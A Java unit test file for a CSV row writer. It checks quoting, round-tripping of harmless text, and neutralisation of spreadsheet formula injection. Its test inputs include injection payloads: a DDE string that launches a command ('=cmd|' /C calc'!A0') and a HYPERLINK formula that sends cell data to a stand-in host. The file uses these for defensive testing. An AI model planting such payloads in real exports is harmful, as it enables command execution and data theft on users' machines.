package com.fbolaunchpad.orders;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class CsvRowTest {
    private static List<String> read(Object... values) {
        var rows = CsvReader.rows(CsvRow.of(Arrays.asList(values)).line());
        assertThat(rows).hasSize(1);
        return rows.get(0);
    }

    @Test
    void isALineOfItsCells() {
        assertThat(CsvRow.of(Arrays.asList(12L, "N1", null, true, "250.50", "")).line())
                .isEqualTo("12,N1,,true,250.50,\r\n");
    }

    @Test
    void quotesWhatWouldBeCutOrLost() {
        assertThat(CsvRow.of(List.of("a,b", "say \"go\"", "one\ntwo", "one\r\ntwo", "a;b", " a", "a ", "plain text"))
                        .line())
                .isEqualTo(
                        "\"a,b\",\"say \"\"go\"\"\",\"one\ntwo\",\"one\r\ntwo\",\"a;b\",\" a\",\"a \",plain text\r\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "'",
                "\"",
                "\"\"",
                ",",
                ",,",
                "a,\"b\"",
                "a\r\nb",
                "a\rb",
                "a\nb\n",
                "\u00a0",
                "\ufeffa",
                "Grüße, 燃料",
                "🛩️, ready",
                "a=1",
                "1-2",
                "a@b.example",
                "N1+2",
                "2026-11-22T15:04:05Z",
                "O'Hare",
                "'quoted'",
                "a\tb",
                ";"
            })
    void bringsHarmlessTextBackAsItIs(String text) {
        assertThat(read(text)).containsExactly(text);
        assertThat(read("before", text, "after")).containsExactly("before", text, "after");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "\ttext",
                "\rtext",
                "\ntext",
                " =1",
                "   -1",
                "\u00a0=1",
                "\u3000=1",
                "\ufeff=1",
                "\u200b=1",
                "\"=1\"",
                "'=1",
                "' \"@x",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(A1)",
                " ＝1",
                "=",
                "=HYPERLINK(\"http://example.com?x=\"&A1,\"go\")",
                "=cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "=1\r\n=2",
                "+1 555 0100",
                "\u0000=1",
                " \t=1",
                "\u0085=1",
                "\u2028=1"
            })
    void leavesNoFormula(String text) {
        assertThat(read(text)).containsExactly("'" + text);
        assertThat(read(1, text, 2)).containsExactly("1", "'" + text, "2");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a", "a\n", "a,b", "\"a\"b\r\n", "\"a\r\n", "a\"b\"\r\n", "a\r\r\n"})
    void isReadBackByAReaderThatIsStrict(String text) {
        assertThatExceptionOfType(AssertionError.class).isThrownBy(() -> CsvReader.rows(text));
    }
}
